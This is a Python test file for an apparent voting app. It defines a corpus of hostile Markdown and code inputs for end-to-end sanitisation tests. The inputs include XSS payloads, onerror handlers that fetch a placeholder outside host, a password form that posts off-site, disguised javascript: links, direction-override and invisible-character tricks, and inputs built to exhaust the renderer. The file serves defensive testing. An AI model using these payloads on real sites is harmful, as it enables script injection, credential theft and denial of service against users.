"""Markdown and code."""

from arena.models import Kind
from tests.e2e.corpus.attack import attacks

RLO, ZWSP, PILED = "\u202e", "\u200b", "\u0335\u0489\u0310\u031a"

TEXTS = attacks(
    Kind.TEXT,
    {
        "script": "<script>alert(1); top.location = 'http://{elsewhere}/'</script>",
        "image that fails": "<img src=x onerror=\"fetch('http://{elsewhere}/')\">",
        "tracking image": "![pixel](http://{elsewhere}/pixel.png) ![p][r]\n\n[r]: http://{elsewhere}/p",
        "javascript link": "[press](javascript:alert(1)) <javascript:alert(1)> [x]\n\n[x]: javascript:alert(2)",
        "javascript link in disguise": "[a](java&#115;cript:alert(1)) [b](&#x01;javascript:alert(1)) "
        "[c](JaVaScRiPt:alert(1)) [d](vbscript:x) [e](data:text/html,<script>alert(1)</script>)",
        "form": '<form action="http://{elsewhere}/"><input name=password><button>Vote</button></form>',
        "meta refresh": '<meta http-equiv="refresh" content="0;url=http://{elsewhere}/">',
        "base": '<base href="http://{elsewhere}/">\n\n[relative](vote/)',
        "style": "<style>@import 'http://{elsewhere}/x.css'; .ballot{display:none!important}</style>",
        "inline style": '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
        "our own classes": '<div class="ballot"><span class="visually-hidden" id="ballot">A</span></div>',
        "ids of the page": "# ballot {#ballot}\n\n<a id=main name=ballot>x</a> [m](#ballot) [n](#main)",
        "htmx attributes": '<b hx-get="http://{elsewhere}/" hx-trigger="load" data-next data-key="s">x</b>',
        "frame": '<iframe src="http://{elsewhere}/" srcdoc="<script>alert(1)</script>"></iframe>',
        "svg in text": "<svg onload=alert(1)><use href='http://{elsewhere}/#x'/></svg>",
        "mathml in text": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "formula that links": r"$\href{javascript:alert(1)}{x}$ $\url{http://{elsewhere}}$ "
        r"$\style{position:fixed;inset:0}{x}$ $\class{ballot}{x}$ $\text{<img src=x onerror=alert(1)>}$",
        "formula that grows": r"$$\rule{99999px}{99999px} \hspace{9999cm} x$$ "
        r"$\def\a{xx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$",
        "fence that closes itself": '```"><script>alert(1)</script>\nx\n```\n\n```html\n</code></pre>'
        "<script>alert(1)</script>\n```",
        "comment that does not end": "<!-- \n\n<script>alert(1)</script>\n\n<!--><img src=x onerror=alert(1)>",
        "tags that do not end": "</section></main></body></html><plaintext><textarea><select><noscript>",
        "5 MB of nested lists": "".join("  " * (n % 400) + "- x\n" for n in range(12_000)),
        "deep quotes": ">" * 40_000 + " deep",
        "deep lists": "".join("  " * n + "- x\n" for n in range(290)),
        "one long word": "W" * 90_000,
        "wide table": "|" + "a|" * 600 + "\n|" + "-|" * 600 + "\n|" + "wide|" * 600,
        "override of direction": f"{RLO}A si retteb, etov rof A{RLO}\n\n`{RLO}code` [{RLO}x](http://{{elsewhere}}/)",
        "invisible link": f"[{ZWSP}](http://{{elsewhere}}/) # {ZWSP}\n\n# {ZWSP}\n\n#\n",
        "invisible names": ZWSP * 20_000 + f"[{ZWSP}^{ZWSP}]: x\n\n" + "\u2060\ufeff" * 10_000,
        "piled marks": "Z" + PILED * 3_000 + " under the bar",
        "footnotes of the page": "[^ballot] [^1]\n\n[^ballot]: a\n[^1]: [x](javascript:alert(1))",
        "details that run": "<details open ontoggle=\"alert(1)\"><summary onclick='alert(2)'>a</summary>"
        "\n\n<script>alert(3)</script>\n</details>\n\n<sub onmouseover=alert(4)>x</sub>",
        "details without end": "<details>\n" * 300 + "</details>\n" * 400 + "<sub><kbd>" * 500,
        "picture that runs": "![a](data:image/svg+xml,%3Csvg/onload=alert(1)%3E) ![b](data:text/html,x) "
        '![c" onerror="alert(1)](http://{elsewhere}/c.png "x") ![d](data:image/png;base64,AAAA"onerror=1)',
        "relative picture": "![a](/static/podium.svg) ![b](//{elsewhere}/b.png) ![c](vote/)",
        "separators of lines": "x\u2028<script>alert(1)</script>\u2029\x0b\x0c\x1b[2J\x85y\ufdd0",
    },
)

CODES = attacks(
    Kind.CODE,
    {
        "code that is markup": "</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>",
        "code turned round": f"if access != '{RLO}nimda' : # {ZWSP}\n    pass",
        "code in one line": "x = [" + "'aaaa'," * 14_000 + "]",
    },
)
